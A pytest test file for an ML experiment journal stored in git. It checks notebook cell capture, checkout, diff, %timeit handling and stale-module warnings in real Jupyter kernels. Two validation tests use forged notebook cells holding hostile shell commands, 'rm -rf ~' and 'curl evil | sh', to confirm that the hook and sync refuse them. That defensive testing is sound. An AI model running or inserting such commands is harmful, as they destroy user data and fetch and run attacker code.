"""Notebook runs end to end, in a real Jupyter kernel (nbclient) over a real git repository:
the cells a run counts are kept with it and `checkout` gives them back; a fit timed by IPython's
``%timeit`` is no run; a module edited on disk but not reloaded is named in the run."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pygit2
import pytest
from conftest import GIT_ENV, git
from helpers import Cli, hooked_server, make_run, run_git
from test_untrusted_journal import craft_run

from gitlab_journal.code.state import notebook_id
from gitlab_journal.journal import format as fmt
from gitlab_journal.journal import schema
from gitlab_journal.journal.identity import fingerprint
from gitlab_journal.journal.records import Run
from gitlab_journal.journal.schema import InvalidRecord
from gitlab_journal.journal.store import Store

pytestmark = pytest.mark.slow  # a kernel each (see the README: `pytest -m "not slow"`)

ROOT = Path(__file__).resolve().parents[1]
BIN = str(Path(sys.executable).parent)
ENV = {**os.environ, **GIT_ENV, "PATH": BIN + os.pathsep + os.environ.get("PATH", "")}

AUTOLOG = "import gitlab_journal\ngitlab_journal.autolog()"
DATA = (
    "from sklearn.datasets import load_iris\n"
    "from sklearn.linear_model import LogisticRegression\n"
    "X, y = load_iris(return_X_y=True)"
)


def nbformat() -> Any:
    """The nbformat module, whose functions carry no type annotations."""
    import nbformat as module

    return module


class Kernel:
    """One Jupyter kernel in the repository: each :meth:`run` is a new cell executed there."""

    def __init__(self, client: Any, notebook: Any) -> None:
        self.client = client
        self.notebook = notebook

    def run(self, source: str) -> str:
        """Execute ``source`` as the next cell (an error in it fails the test): its stderr."""
        cell = nbformat().v4.new_code_cell(source)
        self.notebook.cells.append(cell)
        self.client.execute_cell(cell, len(self.notebook.cells) - 1)
        return "".join(o.get("text", "") for o in cell.outputs if o.get("name") == "stderr")


@contextmanager
def kernel(repo: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Kernel]:
    from nbclient import NotebookClient

    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    notebook = nbformat().v4.new_notebook()
    client = NotebookClient(
        notebook, timeout=300, kernel_name="python3", resources={"metadata": {"path": str(repo)}}
    )
    with client.setup_kernel():
        yield Kernel(client, notebook)


def runs(repo: Path) -> list[Run]:
    """The journal's runs, oldest first (by the commits that recorded them)."""
    log = git(repo, "log", "--reverse", "--format=%(trailers:key=Journal-Run,valueonly)", "journal")
    order: dict[str, int] = {}
    for run_id in log.split():
        order.setdefault(run_id, len(order))
    return sorted(Store.discover(repo).iter_runs(), key=lambda run: order.get(run.id, -1))


def kept_cells(repo: Path, run: Run) -> bytes | None:
    return Store.discover(repo).file(run.fingerprint, run.id, fmt.NOTEBOOK_FILE)


def flat(text: str) -> str:
    return " ".join(text.split())


# -- the cells a notebook run counts are kept with it ----------------------------------------

WIDE = (
    "class Wide(LogisticRegression):\n    def predict(self, X):\n        return super().predict(X)"
)
FIT = "model = Wide(max_iter=400).fit(X, y)"


def test_a_notebook_run_keeps_its_cells_and_checkout_gives_them_back(
    repo: Path, monkeypatch: pytest.MonkeyPatch, cli: Cli
) -> None:
    with kernel(repo, monkeypatch) as nb:
        for source in (AUTOLOG, DATA, WIDE, FIT):
            nb.run(source)
    [run] = runs(repo)
    caller = run.identity["code"]["caller"]["notebook"]
    kept = kept_cells(repo, run)
    assert kept is not None, "the run's folder holds no notebook.py"
    # the exact text the identity names: its git blob id is the caller's id
    assert str(pygit2.hash(kept)) == caller
    text = kept.decode()
    assert text == f"# %%\n{WIDE}\n# %%\n{FIT}\n"  # the fit's cell and its class's, sorted

    code, out, _ = cli("show", run.id)
    assert code == 0
    shown = flat(out)
    assert f"notebook cells {caller[:12]} kept as notebook.py" in shown, out
    assert "not kept" not in shown

    target = repo.parent / "continued"
    code, out, err = cli("checkout", run.id, str(target))
    assert code == 0, err
    written = target / f"notebook-{run.id}.ipynb"
    assert f"wrote its notebook cells as {written.name}" in flat(out), out
    doc = json.loads(written.read_text())
    assert [c["source"] for c in doc["cells"] if c["cell_type"] == "code"] == [WIDE, FIT]
    # the notebook counts as the run's cells did: its code cells are the kept text
    assert notebook_id(written.read_bytes()) == caller
    # it is new in the worktree, untracked, and nothing checked out changed
    assert git(target, "status", "--porcelain=v1").splitlines() == [f"?? {written.name}"]


def test_the_python_api_in_a_notebook_keeps_the_cell_that_trains(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    block = (
        "with journal.run(model='my.Net', params={'lr': 0.1}) as run:\n"
        "    run.log_metrics({'acc': 0.91})"
    )
    with kernel(repo, monkeypatch) as nb:
        nb.run("from gitlab_journal import Journal\njournal = Journal('.')")
        nb.run(block)
        nb.run("journal.record(model='my.Net', params={'lr': 0.2}, metrics={'acc': 0.5})")
    first, second = runs(repo)
    assert kept_cells(repo, first) == f"# %%\n{block}\n".encode()
    assert kept_cells(repo, second) == (
        b"# %%\njournal.record(model='my.Net', params={'lr': 0.2}, metrics={'acc': 0.5})\n"
    )
    for run in (first, second):
        assert (
            str(pygit2.hash(kept_cells(repo, run) or b""))
            == (run.identity["code"]["caller"]["notebook"])
        )


def test_diff_and_compare_show_the_cells_that_differ(
    repo: Path, monkeypatch: pytest.MonkeyPatch, cli: Cli
) -> None:
    """Two fits whose notebook classes differ are two experiments; `diff` names the cells
    that made each and shows what changed in them, `compare` lists them beside the code."""
    edited = WIDE.replace("return super().predict(X)", "return super().predict(X) * 1")
    with kernel(repo, monkeypatch) as nb:
        for source in (AUTOLOG, DATA, WIDE, FIT, edited, FIT):
            nb.run(source)
    first, second = runs(repo)
    ids = [run.identity["code"]["caller"]["notebook"] for run in (first, second)]
    assert ids[0] != ids[1] and first.fingerprint != second.fingerprint

    code, out, err = cli("diff", first.id, second.id)
    assert code == 0, err
    lines = [line.strip() for line in out.splitlines()]
    assert any(
        line.startswith("caller.notebook") and ids[0] in line and ids[1] in line for line in lines
    ), out
    assert "-        return super().predict(X)" in lines, out
    assert "+        return super().predict(X) * 1" in lines, out

    code, out, err = cli("diff", first.id, second.id, "--json")
    assert code == 0, err
    assert json.loads(out)["code"]["caller.notebook"] == ids
    assert "+        return super().predict(X) * 1" in json.loads(out)["code"]["cells"]

    code, out, err = cli("compare", first.id, second.id)
    assert code == 0, err
    row = next(line for line in out.splitlines() if "caller.notebook" in line)
    assert ids[0][:10] in row and ids[1][:10] in row, out


def test_checkout_never_writes_the_cells_over_a_file_that_is_there(tmp_path: Path) -> None:
    from gitlab_journal.reproduce.checkout import write_cells

    taken = tmp_path / "notebook-run00001.ipynb"
    taken.write_text("mine\n")
    text = "# %%\nimport numpy\n\n\n# %%\nprint(1)\n"  # a cell ending with blank lines
    written = write_cells(tmp_path, "run00001", text)
    assert written == tmp_path / "notebook-run00001-2.ipynb"
    assert taken.read_text() == "mine\n"
    assert notebook_id(written.read_bytes()) == str(pygit2.hash(text.encode()))
    code = [c["source"] for c in json.loads(written.read_text())["cells"][1:]]
    assert code == ["import numpy\n\n\n", "print(1)"]
    read = nbformat().reads(written.read_text(), as_version=4)
    nbformat().validate(read)  # a valid notebook


# -- a run folder's notebook.py is checked where run folders are checked ---------------------


def notebook_run(run_id: str, text: bytes) -> tuple[Run, dict[str, bytes]]:
    """A run whose identity names the notebook cells ``text``, and its files with them."""
    run = make_run(run_id, {"C": 1.0})
    identity = dict(run.identity)
    identity["code"] = {**identity["code"], "caller": {"notebook": str(pygit2.hash(text))}}
    run = replace(run, identity=identity, fingerprint=fingerprint(identity))
    files = fmt.encode_run(run)
    files[fmt.NOTEBOOK_FILE] = text
    return run, files


def test_a_notebook_file_must_be_the_cells_the_identity_names() -> None:
    run, files = notebook_run("nbok0001", b"# %%\nmodel.fit(X, y)\n")

    def check(files: dict[str, bytes]) -> Run:
        return fmt.validate_files(files, fingerprint=run.fingerprint, run_id=run.id, where="x")

    assert check(files).id == run.id
    other = {**files, fmt.NOTEBOOK_FILE: b"# %%\nimport os; os.system('rm -rf ~')\n"}
    with pytest.raises(InvalidRecord, match=r"x: invalid run record: notebook\.py: not the cells"):
        check(other)
    plain = make_run("nbok0002", {"C": 1.0})
    stray = {**fmt.encode_run(plain), fmt.NOTEBOOK_FILE: b"# %%\nx\n"}
    with pytest.raises(InvalidRecord, match=r"notebook\.py: identity\.json names no notebook"):
        fmt.validate_files(stray, fingerprint=plain.fingerprint, run_id=plain.id, where="x")
    latin, latin_files = notebook_run("nbok0003", "# %%\nname = 'Zoë'\n".encode("latin-1"))
    with pytest.raises(InvalidRecord, match=r"notebook\.py: not UTF-8 text"):
        fmt.validate_files(latin_files, fingerprint=latin.fingerprint, run_id=latin.id, where="x")
    huge = b"# %%\n" + b"x = 1\n" * (schema.MAX_RECORD_BYTES // 6 + 1)
    big, big_files = notebook_run("nbok0004", huge)
    with pytest.raises(InvalidRecord, match=r"notebook\.py is larger than 1 MiB"):
        fmt.validate_files(big_files, fingerprint=big.fingerprint, run_id=big.id, where="x")


@pytest.fixture
def server(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(a bare server with the real pre-receive hook, clone A with two runs pushed, clone B)."""
    return hooked_server(tmp_path)


def test_the_hook_and_sync_refuse_cells_that_are_not_the_runs(
    tmp_path: Path, server: tuple[Path, Path, Path], cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare, a, b = server
    run, files = notebook_run("forged01", b"# %%\nmodel.fit(X, y)\n")
    files[fmt.NOTEBOOK_FILE] = b"# %%\nimport os; os.system('curl evil | sh')\n"
    folder = fmt.run_dir(run.fingerprint, run.id, version=fmt.FORMAT_VERSION)
    before = run_git(bare, "rev-parse", "journal")
    craft_run(b, folder, files)

    refused = push(b)
    assert refused.returncode != 0
    assert folder in refused.stderr and "notebook.py: not the cells" in refused.stderr
    assert run_git(bare, "rev-parse", "journal") == before

    open_bare = tmp_path / "open.git"  # a remote without the hook
    git(tmp_path, "init", "-q", "--bare", str(open_bare))
    git(b, "remote", "add", "open", str(open_bare))
    assert push(b, "open").returncode == 0
    git(a, "remote", "add", "open", str(open_bare))
    tip = run_git(a, "rev-parse", "journal")
    monkeypatch.chdir(a)
    code, _, err = cli("sync", "open", "--no-push")
    assert code == 1
    assert folder in err and "notebook.py: not the cells" in flat(err), err
    assert run_git(a, "rev-parse", "journal") == tip  # nothing merged

    # the cells a run's identity names pass the hook
    good, good_files = notebook_run("honest01", b"# %%\nmodel.fit(X, y)\n")
    Store.discover(a).record(good, {fmt.NOTEBOOK_FILE: good_files[fmt.NOTEBOOK_FILE]})
    assert push(a).returncode == 0
    where = fmt.run_dir(good.fingerprint, good.id, version=fmt.FORMAT_VERSION)
    assert run_git(bare, "show", f"journal:{where}/{fmt.NOTEBOOK_FILE}") == "# %%\nmodel.fit(X, y)"


def push(clone: Path, remote: str = "origin") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", "push", remote, "journal"], cwd=clone, env=ENV, capture_output=True, text=True
    )


# -- the notebook code a run depends on: helpers, classes without methods, scorers -----------


def cells(*texts: str) -> bytes:
    """The ``notebook.py`` of a run that counts these cells (kept sorted by their text)."""
    return "".join(f"# %%\n{text}\n" for text in sorted(texts)).encode()


HELPER = "def narrow(X):\n    return X[:, :{k}]"
NARROW = (
    "class Narrow(LogisticRegression):\n"
    "    def fit(self, X, y):\n"
    "        return super().fit(narrow(X), y)\n"
    "\n"
    "    def predict(self, X):\n"
    "        return super().predict(narrow(X))"
)
BASE = (
    "class Base(LogisticRegression):\n"
    "    n_feat = 4\n"
    "\n"
    "    def fit(self, X, y):\n"
    "        return super().fit(X[:, : self.n_feat], y)\n"
    "\n"
    "    def predict(self, X):\n"
    "        return super().predict(X[:, : self.n_feat])"
)
CHILD = "class Child(Base):\n    n_feat = {n}"


def test_the_notebook_code_an_estimator_runs_is_part_of_the_experiment(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A helper function of the notebook that a notebook class's ``fit`` calls, and a subclass
    cell with no methods of its own, are code of the run: editing either is a new experiment,
    and the run keeps their cells."""
    fit_narrow = "Narrow(max_iter=300).fit(X, y)"
    fit_child = "Child(max_iter=300).fit(X, y)"
    with kernel(repo, monkeypatch) as nb:
        for source in (AUTOLOG, DATA, HELPER.format(k=2), NARROW):
            nb.run(source)
        said = [nb.run(fit_narrow)]
        nb.run(HELPER.format(k=3))
        said.append(nb.run(fit_narrow))  # the helper edited: another experiment
        nb.run(BASE)
        nb.run(CHILD.format(n=1))
        said.append(nb.run(fit_child))
        nb.run(CHILD.format(n=3))
        said.append(nb.run(fit_child))  # the subclass edited: another experiment
        said.append(nb.run(fit_child))  # the same again: a repeat
    warned = ["DuplicateRunWarning" in text for text in said]
    assert warned == [False, False, False, False, True], said
    narrow_two, narrow_three, child_one, child_three, _ = runs(repo)
    assert narrow_two.fingerprint != narrow_three.fingerprint
    assert child_one.fingerprint != child_three.fingerprint
    assert kept_cells(repo, narrow_three) == cells(NARROW, fit_narrow, HELPER.format(k=3))
    assert kept_cells(repo, child_one) == cells(BASE, CHILD.format(n=1), fit_child)


TRAIN = "def train(lr):\n    return {factor} * lr"
TRAINED = (
    "with journal.run(model='my.Net', params={'lr': 0.1}) as run:\n"
    "    print('duplicate', run.is_duplicate)\n"
    "    run.log_metrics({'acc': train(0.1)})"
)


def test_the_python_api_counts_the_notebook_functions_its_block_calls(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``with journal.run(...)`` in a cell that calls a function of another cell: that cell is
    part of the experiment, so editing the function is a new one."""
    with kernel(repo, monkeypatch) as nb:
        nb.run("from gitlab_journal import Journal\njournal = Journal('.')")
        nb.run(TRAIN.format(factor=2))
        nb.run(TRAINED)
        nb.run(TRAINED)
        nb.run(TRAIN.format(factor=3))
        nb.run(TRAINED)
        said = [flat(nb.notebook.cells[i].outputs[0].get("text", "")) for i in (2, 3, 5)]
    assert said == ["duplicate False", "duplicate True", "duplicate False"], said
    *_, last = runs(repo)
    assert kept_cells(repo, last) == cells(TRAIN.format(factor=3), TRAINED)


METRIC = "def agreement(y_true, y_pred):\n    return float((y_true == y_pred).mean()) * {w}"
SCORED = "cross_val_score(LogisticRegression(max_iter=300), X, y, cv=3, scoring=scorer)"


def test_a_scorer_of_the_notebook_counts_its_cells(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``scoring=make_scorer(f)`` with ``f`` defined in the notebook: the cell defining ``f`` is
    code of the cross-validation's run, so editing ``f`` is a new experiment."""
    imports = (
        "from sklearn.metrics import make_scorer\n"
        "from sklearn.model_selection import cross_val_score"
    )
    with kernel(repo, monkeypatch) as nb:
        for source in (
            AUTOLOG,
            DATA,
            imports,
            METRIC.format(w=1),
            "scorer = make_scorer(agreement)",
        ):
            nb.run(source)
        said = [nb.run(SCORED), nb.run(SCORED)]
        nb.run(METRIC.format(w=2))
        nb.run("scorer = make_scorer(agreement)")
        said.append(nb.run(SCORED))
    warned = ["DuplicateRunWarning" in text for text in said]
    assert warned == [False, True, False], said
    first, _, edited = runs(repo)
    assert first.fingerprint != edited.fingerprint
    assert METRIC.format(w=2) in (kept_cells(repo, edited) or b"").decode()


# -- %timeit and %%timeit: timed fits are no runs --------------------------------------------


def test_timed_fits_are_not_recorded_and_each_timeit_says_so(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with kernel(repo, monkeypatch) as nb:
        nb.run(AUTOLOG)
        nb.run(DATA)
        line = nb.run("%timeit -n 3 -r 2 LogisticRegression(max_iter=300).fit(X, y)")
        cell = nb.run("%%timeit -n 2 -r 2\nm = LogisticRegression(max_iter=200)\nm.fit(X, y)")
        twice = nb.run(
            "%timeit -n 2 -r 1 LogisticRegression(max_iter=300).fit(X, y)\n"
            "%timeit -n 2 -r 1 LogisticRegression(max_iter=300).fit(X, y)"
        )
        after = nb.run("model = LogisticRegression(max_iter=300).fit(X, y)")
    said = "timed by %timeit are not recorded"
    assert line.count("AutologWarning") == 1 and said in line, line
    assert cell.count("AutologWarning") == 1 and said in cell, cell
    assert twice.count("AutologWarning") == 2, twice
    assert "AutologWarning" not in after, after
    [run] = runs(repo)  # the fit after the timings, alone
    assert run.params["max_iter"] == 300 and run.kind == "autolog"


# -- a module edited on disk but not reloaded ------------------------------------------------

MODULE = """\
from sklearn.linear_model import LogisticRegression


def make():
    return LogisticRegression(C={C}, max_iter=300)
"""
STALE = "module mymodel (mymodel.py) changed on disk after it was imported"
FEATURES = "def first(X):\n    return X[:, :{k}]\n"


def test_a_module_autoreload_refreshed_is_not_named_stale(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With IPython's ``%autoreload 2``, an edited module's functions are refreshed before the
    cell runs: the fit runs the code the file holds, and no warning says otherwise."""
    (repo / "mymodel.py").write_text(MODULE.format(C=1.0))
    git(repo, "add", "mymodel.py")
    git(repo, "commit", "-q", "-m", "Add the model")
    fit = "mymodel.make().fit(X, y)"
    with kernel(repo, monkeypatch) as nb:
        nb.run("%load_ext autoreload\n%autoreload 2")
        nb.run(AUTOLOG)
        nb.run(DATA + "\nimport mymodel")
        said = [nb.run(fit)]
        (repo / "mymodel.py").write_text(MODULE.format(C=0.5))
        said.append(nb.run(fit))  # autoreload ran the new file before this cell
    assert not [text for text in said if STALE in flat(text)], said
    assert [run.params["C"] for run in runs(repo)] == [1.0, 0.5]
    assert not [w for run in runs(repo) for w in run.warnings if STALE in w]


def test_a_module_edited_on_disk_but_not_reloaded_is_named_in_the_run(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (repo / "mymodel.py").write_text(MODULE.format(C=1.0))
    git(repo, "add", "mymodel.py")
    git(repo, "commit", "-q", "-m", "Add the model")
    fit = "mymodel.make().fit(X, y)"
    with kernel(repo, monkeypatch) as nb:
        nb.run(AUTOLOG)
        nb.run(DATA + "\nimport importlib\nimport mymodel")
        said = [nb.run(fit)]  # as imported
        (repo / "mymodel.py").write_text(MODULE.format(C=0.5))
        said.append(nb.run(fit))  # the kernel still runs C=1.0
        said.append(nb.run(fit))  # and still
        nb.run("importlib.reload(mymodel)")
        said.append(nb.run(fit))  # C=0.5, as the file says
        (repo / "mymodel.py").write_text(MODULE.format(C=0.5) + "\nLABEL = 'edited'\n")
        said.append(nb.run(fit))  # an edit after a fit that ran it: the file is not what ran
        # a module edited before any fit used it: its functions are not the file's
        (repo / "features.py").write_text(FEATURES.format(k=2))
        nb.run("import features")
        (repo / "features.py").write_text(FEATURES.format(k=3))
        first = nb.run("LogisticRegression(max_iter=300).fit(features.first(X), y)")
    assert "module features (features.py) changed on disk after it was imported" in flat(first)
    # mymodel, edited and not reloaded, is a code dependency of this run too: named as well
    assert STALE in flat(first)
    warned = [STALE in flat(text) for text in said]
    assert warned == [False, True, True, False, True], said
    assert all("AutologWarning" in text for text, w in zip(said, warned, strict=True) if w)
    *recorded, last = runs(repo)
    assert [run.params["C"] for run in recorded] == [1.0, 1.0, 1.0, 0.5, 0.5]
    assert [any(STALE in w for w in run.warnings) for run in recorded] == warned
    assert last.data["X"] != recorded[0].data["X"]  # two columns of X, as the kernel ran
    assert any("module features" in w for w in last.warnings)
    assert "importlib.reload(mymodel)" in flat(recorded[1].warnings[0])
